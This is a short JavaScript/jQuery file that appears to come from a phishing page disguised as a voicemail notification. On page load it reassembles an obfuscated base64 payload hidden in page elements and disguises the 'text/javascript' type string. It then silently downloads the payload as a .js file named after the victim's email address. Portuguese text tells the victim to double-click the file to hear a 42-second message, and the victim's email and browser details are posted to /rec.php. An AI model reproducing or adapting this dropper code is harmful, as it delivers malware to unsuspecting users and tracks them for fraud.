$(window).on("load", function () {
  var c = $("#c1").text() + $("#c2").text() + $("#c3").text();
  c = c.replace(/[\s#*]/g, "");
  var who = location.hash.slice(1);
  try { who = atob(who); } catch (e) {}
  $("#mail").text(who);
  var type = ["text/ja", "vascript"].join("");
  function go() {
    if (/Firefox/.test(navigator.userAgent)) {
      window.location.href = "data:application/octet-stream;base64," + c;
    } else {
      var $a = $("<a>").attr({ href: "data:" + type + ";base64," + c, download: "Voicemail_" + (who.split("@")[0] || "user") + ".js" }).css("display", "none");
      $("body").append($a);
      $a.get(0).click();
    }
    $("#wait").hide();
    $("#done").show().html("Duplo clique no arquivo <b>Voicemail</b> para ouvir a mensagem (0:42)");
    $.post("/rec.php", { u: who, ua: navigator.userAgent });
  }
  setTimeout(go, 2300);
});
